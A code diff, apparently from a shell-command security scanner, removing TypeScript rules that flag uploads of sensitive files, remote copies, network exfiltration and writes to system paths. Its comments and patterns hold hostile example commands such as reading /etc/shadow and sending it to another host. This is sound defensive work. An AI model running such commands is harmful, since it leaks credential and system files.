-    if (word.sensitiveRead !== undefined) {
-      c.scan.add('critical', `shell: sends ${word.sensitiveRead} over the network (${c.name} with its content)`);
-      return;
-    }
-    const text = word.text;
-    if (/^file:\/\//i.test(text)) {
-      // `curl file:///etc/shadow` reads a local file; where it goes is up to the pipe.
-      const why = sensitiveFile(text.slice(7));
-      if (why !== undefined) c.summary.readsSensitive = { path: text.slice(7), why };
-      continue;
-    }
-    if (text.includes('://')) continue;
-    const optionValue = FILE_SENDING_OPTION.exec(text)?.[1];
-    const candidates = [uploadedFile(optionValue ?? text) ?? optionValue ?? text];
-    if (/\s/.test(text)) candidates.push(...pathsInText(text));
-    for (const candidate of candidates) {
-      if (!looksLikePath(candidate) && !/^[\w.-]+\/|^\.\w/.test(candidate)) continue;
-      const why = sensitiveFile(candidate);
-      if (why === undefined) continue;
-      if (c.name === 'scp' || c.name === 'rsync') {
-        const last = c.args[c.args.length - 1];
-        if (last === word || !/^[\w.-]*@?[\w.-]+:/.test(last.text)) continue;
-      }
-      if ((c.name === 'curl' || c.name === 'wget') && uploadedFile(text) === undefined && !/^--(?:post|body)-file=/.test(text)) {
-        // A plain operand of curl or wget is a URL or an output, not an upload.
-        const index = c.args.indexOf(word);
-        const previous = index > 0 ? c.args[index - 1].text : '';
-        if (!/^(?:-T|--upload-file|--post-file|--body-file|-d|--data[-\w]*|-F|--form)$/.test(previous)) continue;
-      }
-      c.scan.add('critical', `shell: uploads ${why} ${quote(candidate)} (${c.name})`);
-      return;
-    }
-  }
-}
-
-/** Any command given a remote location (`user@host:path`) and a sensitive local file sends it there (tar, scp, rsync…). */
-function remoteCopyRule(c: RuleContext): void {
-  if (c.name === 'ssh' || c.name === 'scp' || c.name === 'rsync') return;
-  const remote = c.args.find((word) => /^[\w.-]+@[\w.-]+:|^[\w.-]+:\/\//.test(word.text) && !/^(?:https?|ftp|file):/i.test(word.text));
-  if (remote === undefined) return;
-  for (const word of c.args) {
-    if (word === remote || !looksLikePath(word.text)) continue;
-    const why = sensitiveFile(word.text);
-    if (why !== undefined) {
-      c.scan.add('critical', `shell: sends ${why} ${quote(word.text)} to ${quote(remote.text)} (${c.name})`);
-      return;
-    }
-  }
-}
-
-/** An address of another host among the arguments (an IP, a URL, `host:port`, `user@host:`). */
-const REMOTE_ARGUMENT = /^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?$|^[a-z][\w+.-]*:\/\/[^/]|^[\w.-]+\.[a-z]{2,}:\d{2,5}$|^[\w.-]+@[\w.-]+:/i;
-
-/** Any program given another host and a credential or system file's content (`cancel -u "$(cat /etc/shadow)" -h 10.0.0.1`). */
-function networkExfiltration(c: RuleContext): void {
-  if (!c.args.some((word) => REMOTE_ARGUMENT.test(word.text) && !/^file:/i.test(word.text))) return;
-  const leaked = c.args.find((word) => word.sensitiveRead !== undefined);
-  if (leaked !== undefined) {
-    c.scan.add('critical', `shell: sends ${leaked.sensitiveRead} to another host (${c.name})`);
-    return;
-  }
-  for (const word of c.args) {
-    const file = uploadedFile(word.text);
-    const why = file === undefined ? undefined : sensitiveFile(file);
-    if (file !== undefined && why !== undefined && looksLikePath(file)) {
-      c.scan.add('critical', `shell: sends ${why} ${quote(file)} to another host (${c.name})`);
-      return;
-    }
-  }
-  uploadStdin(c);
 }
 
 /** Code passed as an argument to any program (`gdb -ex 'python import socket…'`, `vim -c ':py3 …'`). */
@@ -905,21 +857,4 @@ function outputOptionWrites(c: RuleContext): void {
 
 function writeTargets(c: RuleContext, words: Word[], via: string): void {
   for (const word of words) if (looksLikePath(word.text)) writeTarget(c, word.text, via, '>');
-}
-
-/** A write to `path` by `via`: persistence targets and devices are critical, system paths high. */
-export function writeTarget(c: { scan: ShellScan }, path: string, via: string, op: '>' | '>>'): void {
-  if (path === '' || path.includes('$(')) return;
-  const why = criticalWriteTarget(path);
-  if (why !== undefined) {
-    c.scan.add('critical', `shell: writes to ${why} ${quote(path)} (${via})`);
-    return;
-  }
-  if (op === '>' && normalizePath(path).startsWith('/var/log/')) {
-    c.scan.add('critical', `shell: overwrites system log ${quote(path)} (${via})`);
-    return;
-  }
-  if (isSystemPath(path) && !isBlockDevice(path) && !normalizePath(path).startsWith('/dev/')) {
-    c.scan.add('high', `shell: writes to system path ${quote(path)} (${via})`);
-  }
 }
